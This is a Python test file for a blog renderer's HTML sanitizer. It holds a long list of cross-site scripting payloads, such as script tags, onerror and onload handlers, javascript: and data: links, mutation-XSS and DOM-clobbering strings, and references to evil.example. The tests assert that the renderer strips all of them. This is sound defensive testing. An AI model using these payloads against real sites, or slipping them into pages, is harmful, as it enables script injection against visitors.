"""The HTML of a post keeps what its writer meant and nothing that could act."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bloggy.render.html import article, page, stylesheet, to_html
from bloggy.render.layout import TitleBlock

QUIET_TAGS = set(
    re.findall(
        r"\w+",
        """
    a abbr acronym article aside b bdi bdo blockquote br caption center cite code col colgroup data dd
    del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hgroup hr i img input
    ins kbd li mark nav ol p pre q rp rt rtc ruby s samp section small span strike strong sub summary
    sup table tbody td tfoot th thead time tr tt u ul var wbr
    """,
    )
)
QUIET_SCHEMES = {"http", "https", "mailto", "tel"}
ADDRESSES = {
    "href",
    "src",
    "cite",
    "action",
    "formaction",
    "poster",
    "srcset",
    "background",
    "data",
    "xlink:href",
}


class Inspector(HTMLParser):
    """Collects everything in a page that could act when a browser shows it."""

    def __init__(self) -> None:
        super().__init__()
        self.dangers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in QUIET_TAGS:
            self.dangers.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in {"srcdoc", "http-equiv", "target", "form"}:
                self.dangers.append(f"{name}=")
            if name == "style":
                self.dangers.append(f"style={value}")
            if name == "id" and not re.fullmatch(r"fn(ref)?\d+(:\d+)?", value):
                self.dangers.append(f"id={value}")
            if tag == "input" and name == "type" and value != "checkbox":
                self.dangers.append(f"input {value}")
            squeezed = re.sub(r"[\x00-\x20]", "", value)
            scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", squeezed)
            if name in ADDRESSES and scheme and scheme.group(1).lower() not in QUIET_SCHEMES:
                self.dangers.append(f"{name}={value}")


def dangers(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.dangers


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=https://x onmouseover=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]( javascript:alert(1) )",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x.png)',
    '![x](x.png "t\\" onerror=\\"alert(1)")',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<td style='position:fixed;top:0;text-align:left'>x</td>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<script>'; ?><img src=x onerror=alert(1)>",
    "<a id=post name=post>clobber</a>",
    "<img id=post name=getElementById>",
    "<a href='#' ping='https://evil.example'>x</a>",
    "<map name=m><area href='javascript:alert(1)'></map><img usemap=#m src=x>",
    "```<script>\"onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "```python\n</code></pre><img src=x onerror=alert(1)>\n```",
    "`<img src=x onerror=alert(1)>`",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[^\"><script>]\n\n[^\"><script>]: x",
    "^[<script>alert(1)</script>]",
    "- [x\"><script>alert(1)</script>] x",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <script>alert(1)</script>",
    "<p class='hl-k evil' id=x>x</p>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_in_a_post_can_act(attack: str) -> None:
    for text in (attack, f"before {attack} after", f"> {attack}", f"- {attack}", f"<div>\n{attack}\n</div>"):
        assert dangers(to_html(text)) == []
        assert dangers(to_html(text, picture_url=lambda source: "/p?src=x")) == []


def test_the_inspector_would_see_each_kind_of_danger() -> None:
    html = "<script></script><a href='javascript:x' id=q onclick=y style='color:red'></a><input type=image>"
    assert len(dangers(html)) == 6


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(ATTACKS),
            st.sampled_from(["<", ">", '"', "'", "`", "\n\n", "<!--", "]]>", "&", "/"]),
        ),
        max_size=8,
    ).map("".join)
)
def test_attacks_together_can_not_act_either(text: str) -> None:
    assert dangers(to_html(text)) == []


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_any_text_becomes_html(text: str) -> None:
    assert dangers(to_html(text)) == []


def test_a_lone_surrogate_is_replaced() -> None:
    assert "?" in to_html("a \ud800 b")


def test_deeply_nested_html_is_shown_as_text() -> None:
    html = to_html("<div>" * 20_000 + "deep")
    assert "&lt;div&gt;" in html
    assert "<div>" not in html


def test_the_dialect_is_the_one_the_terminal_shows() -> None:
    html = to_html(
        "A[^1] ~~b~~ https://example.org/x notes.md\n\n- [x] c\n\n| d |\n|--:|\n| e |\n\nT\n: f\n\n[^1]: g"
    )
    assert '<a href="#fn1" id="fnref1"' in html
    assert "<s>b</s>" in html
    assert '<a href="https://example.org/x"' in html
    assert "notes.md" in html
    assert 'href="http://notes.md' not in html
    assert 'checked="checked"' in html
    assert '<td align="right">e</td>' in html
    assert "<dd>f</dd>" in html


def test_harmless_html_of_the_writer_stays() -> None:
    html = to_html(
        '<figure><img src="a.png" alt="b"><figcaption>c</figcaption></figure>\n\nx<sup>2</sup> <kbd>q</kbd>'
    )
    assert '<figure><img src="a.png" alt="b"><figcaption>c</figcaption></figure>' in html
    assert "<sup>2</sup>" in html


def test_code_is_coloured_by_classes_that_the_page_has_colours_for() -> None:
    html = to_html('```python\nreturn "<x>"\n```\n\n```nosuch\n<y>\n```')
    assert '<span class="hl-k">return</span>' in html
    assert "&lt;x&gt;" in html
    assert "&lt;y&gt;" in html
    assert ".hl-k" in stylesheet()


def test_pictures_are_loaded_from_where_the_caller_says_or_not_at_all() -> None:
    known = {"a.png": "/p?src=a.png"}
    html = to_html('![A](a.png) ![B](https://far.example/b.png)\n\n<img src="a.png">', picture_url=known.get)
    assert '<img src="/p?src=a.png" alt="A">' in html
    assert "far.example" not in html
    assert 'alt="B"' in html
    assert html.count("/p?src=a.png") == 2


def test_the_text_of_the_writer_is_not_changed() -> None:
    text = "Word\u200djoined \u200fright\u200e ’quoted’ 👨\u200d👩\u200d👧 \u00a0!"
    assert text in unescape(to_html(text))


def test_the_title_block_is_text_too() -> None:
    block = TitleBlock(
        title="<b>T</b>", facts=("<i>", "22 Nov"), summary="<script>", image="a.png", image_alt='"x"'
    )
    html = article("<p>x</p>", block, picture_url=lambda source: "/p?a&b")
    assert dangers(html) == []
    assert "<h1>&lt;b&gt;T&lt;/b&gt;</h1>" in html
    assert '<p class="facts">&lt;i&gt; · 22 Nov</p>' in html
    assert 'src="/p?a&amp;b"' in html


def test_a_title_that_the_text_begins_with_is_not_repeated() -> None:
    assert article(to_html("# A & B\n\nx"), TitleBlock(title="A & B")).count("<h1>") == 1


def test_the_page_of_its_own_allows_no_script_and_carries_its_style() -> None:
    html = page("<p>x</p>", title="</title><script>", language="fr")
    assert html.startswith('<!doctype html>\n<html lang="fr">')
    assert "default-src 'none'" in html
    assert "script-src" not in html
    assert "<script" not in html
    assert stylesheet() in html
    assert "prefers-color-scheme: dark" in html
    assert "@media print" in html


def test_a_strange_language_is_left_out() -> None:
    assert "<html>" in page("", title="", language='"><script>')
